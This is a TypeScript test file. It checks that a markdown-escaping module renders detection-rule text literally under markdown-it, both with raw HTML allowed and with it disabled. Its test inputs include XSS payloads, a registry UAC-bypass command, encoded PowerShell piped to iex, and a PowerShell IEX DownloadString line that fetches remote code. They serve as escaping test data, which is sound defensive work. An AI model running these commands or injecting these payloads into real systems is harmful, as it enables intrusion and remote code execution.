/**
 * Third-party text must render literally. Each case renders our markdown with markdown-it, once with
 * raw HTML allowed (as GitHub and our HTML site do) and once without, and compares the text content
 * of the result (tags stripped by cheerio) with the input.
 */
import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import * as cheerio from 'cheerio';
import MarkdownIt from 'markdown-it';
import { cellList, codeBlock, escapeCell, escapeParagraphs, escapeText, inlineCode, keyValueTable, link, table } from '../../src/render/markdown-syntax.ts';

const RENDERERS = [
  ['html allowed (GitHub-like)', new MarkdownIt({ html: true })],
  ['html disabled', new MarkdownIt({ html: false })],
] as const;

function render(markdown: string, renderer: MarkdownIt): cheerio.CheerioAPI {
  return cheerio.load(renderer.render(markdown));
}

/** The rendered text of a single paragraph, and checks that no other block appeared. */
function paragraphText($: cheerio.CheerioAPI): string {
  const blocks = $('body').children();
  assert.equal(blocks.length, 1, `one block, got: ${$('body').html()}`);
  assert.equal(blocks.first().prop('tagName'), 'P', `a paragraph, got: ${$('body').html()}`);
  return blocks.first().text();
}

function assertNoMarkup($: cheerio.CheerioAPI): void {
  assert.equal($('script').length, 0, 'no <script> element');
  assert.equal($('em, strong, code, a, img, s, del, br, h1, h2, ul, ol, blockquote, hr').length, 0, `no markup, got: ${$('body').html()}`);
}

const INLINE_CASES = [
  'C:\\Users\\<USER>\\AppData',
  '*not emphasis*',
  '_x_',
  '{{ payload }}',
  '<script>alert(1)</script>',
  '**not bold** and __not bold__',
  '__init__ and __PSLockdownPolicy',
  'snake_case_name and DN_0001_4688_windows_process_creation',
  '`not code`',
  '[not a link](https://example.com) ![not an image](x.png)',
  '~~not struck~~',
  '&amp; &lt;stays&gt; &#65; &copy;',
  '<!-- not a comment --> <b>not bold</b> <img src=x onerror=alert(1)>',
  'trailing backslash\\',
  '\\* \\_ \\\\ already escaped',
  '<https://example.com/autolink>',
  'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d "cmd.exe" /f',
  'powershell -enc SQBFAFgA | iex; echo $env:TEMP *>&1',
];

describe('escapeText renders literally', () => {
  for (const [name, renderer] of RENDERERS) {
    for (const input of INLINE_CASES) {
      test(`${name}: ${input}`, () => {
        const $ = render(escapeText(input), renderer);
        assert.equal(paragraphText($), input);
        assertNoMarkup($);
      });
    }
  }

  test('identifiers keep their underscores unescaped in the markdown source', () => {
    assert.equal(escapeText('DN_0001_4688_windows_process_creation'), 'DN_0001_4688_windows_process_creation');
    assert.equal(escapeText('attack.defense_evasion'), 'attack.defense_evasion');
  });
});

describe('table cells', () => {
  for (const [name, renderer] of RENDERERS) {
    test(`${name}: a|b inside a cell keeps the table at two columns`, () => {
      const $ = render(table(['Key', 'Value'], [['pipe', escapeCell('a|b')], ['more', escapeCell('x | y || z\\|')]]), renderer);
      assert.equal($('table').length, 1);
      assert.equal($('tr').length, 3);
      $('tr').each((_, row) => assert.equal($(row).children('th, td').length, 2, $(row).html() ?? ''));
      assert.deepEqual($('tbody td:nth-child(2)').map((_, cell) => $(cell).text()).get(), ['a|b', 'x | y || z\\|']);
    });

    test(`${name}: every inline case survives a cell`, () => {
      const $ = render(table(['Case', 'Text'], INLINE_CASES.map((input, index) => [String(index), escapeCell(input)])), renderer);
      assert.equal($('script').length, 0);
      assert.deepEqual($('tbody td:nth-child(2)').map((_, cell) => $(cell).text()).get(), INLINE_CASES);
      $('tbody tr').each((_, row) => assert.equal($(row).children('td').length, 2));
    });
  }

  test('a key/value table in the seed layout keeps two columns; lines in a cell become <br>', () => {
    const $ = render(keyValueTable(escapeCell('Title | with pipe'), [['Description', escapeCell('line one\nline <two> | three')]]), new MarkdownIt({ html: true }));
    assert.deepEqual($('thead th').map((_, cell) => $(cell).text()).get(), ['Title', 'Title | with pipe']);
    const cell = $('tbody td').eq(1);
    assert.equal($('tbody td').length, 2);
    assert.equal(cell.find('br').length, 1);
    assert.equal(cell.text(), 'line oneline <two> | three');
  });

  test('a list in a cell: items are links or text, pipes inside them do not split the cell', () => {
    const items = [link('a|b [x]', 'https://example.com/a b(c)|d'), escapeText('plain | *text*')];
    const $ = render(table(['K', 'V'], [['list', cellList(items, 'None')], ['empty', cellList([], 'None *documented*')]]), new MarkdownIt({ html: true }));
    $('tbody tr').each((_, row) => assert.equal($(row).children('td').length, 2));
    assert.deepEqual($('li').map((_, item) => $(item).text()).get(), ['a|b [x]', 'plain | *text*']);
    assert.equal($('a').attr('href'), 'https://example.com/a%20b%28c%29%7Cd');
    assert.equal($('tbody tr').eq(1).children('td').eq(1).text(), 'None *documented*');
  });
});

describe('code', () => {
  const CODE_CASES = [
    'plain',
    'echo ```not a fence```',
    '````\nfour backticks on their own line\n````',
    '```powershell\nIEX (New-Object Net.WebClient).DownloadString("http://x/y")\n```',
    '<script>alert(1)</script>\n{{ payload }}\n*not emphasis* _x_ C:\\Users\\<USER>',
    '    indented\n\ttabbed\n',
    '~~~\ntilde fence inside\n~~~',
  ];
  for (const [name, renderer] of RENDERERS) {
    for (const input of CODE_CASES) {
      test(`${name}: code block holds ${JSON.stringify(input.slice(0, 30))}`, () => {
        const $ = render(codeBlock(input, 'powershell'), renderer);
        assert.equal($('pre').length, 1, $('body').html() ?? '');
        assert.equal($('body').children().length, 1, 'nothing escapes the block');
        assert.equal($('pre code').text(), `${input.replace(/\s+$/, '')}\n`);
        assert.equal($('script').length, 0);
      });
    }

    test(`${name}: inline code keeps backticks, backslashes and markup`, () => {
      for (const input of ['`', 'a `b` c', '``x``', 'C:\\Users\\<USER>', '*x* _y_ <b>z</b>', ' leading space']) {
        const $ = render(`before ${inlineCode(input)} after`, renderer);
        assert.equal($('code').length, 1, input);
        assert.equal($('code').text(), input, input);
      }
    });
  }

  test('the fence is longer than any backtick run in the content', () => {
    assert.ok(codeBlock('a ````` b').startsWith('``````\n'));
    assert.ok(codeBlock('no backticks').startsWith('```\n'));
  });
});

describe('links', () => {
  test('link text and targets with markdown-special characters', () => {
    const $ = render(link('T1003.001: LSASS *Memory* [x]', 'https://attack.mitre.org/techniques/T1003/001'), new MarkdownIt({ html: false }));
    assert.equal($('a').text(), 'T1003.001: LSASS *Memory* [x]');
    assert.equal($('a').attr('href'), 'https://attack.mitre.org/techniques/T1003/001');
    assert.equal($('em').length, 0);
  });
});

describe('multi-line prose (escapeParagraphs)', () => {
  test('paragraphs are kept and inline markup stays literal', () => {
    const input = 'First *line* with C:\\Temp\\<x>\nsecond line\n\nSecond paragraph {{ y }}';
    const $ = render(escapeParagraphs(input), new MarkdownIt({ html: true }));
    assert.deepEqual($('p').map((_, p) => $(p).text()).get(), ['First *line* with C:\\Temp\\<x>\nsecond line', 'Second paragraph {{ y }}']);
    assertNoMarkup($);
  });

  test('lines that look like block markup stay text', () => {
    for (const input of ['# not a heading', '- not a list', '+ not a list', '1986. A great year', 'text\n===', 'text\n---', '> not a quote']) {
      const $ = render(escapeParagraphs(input), new MarkdownIt({ html: true }));
      assert.equal($('body').children().first().prop('tagName'), 'P', `${JSON.stringify(input)} → ${$('body').html()}`);
      assert.equal($('body').text().trim(), input);
    }
  });
});
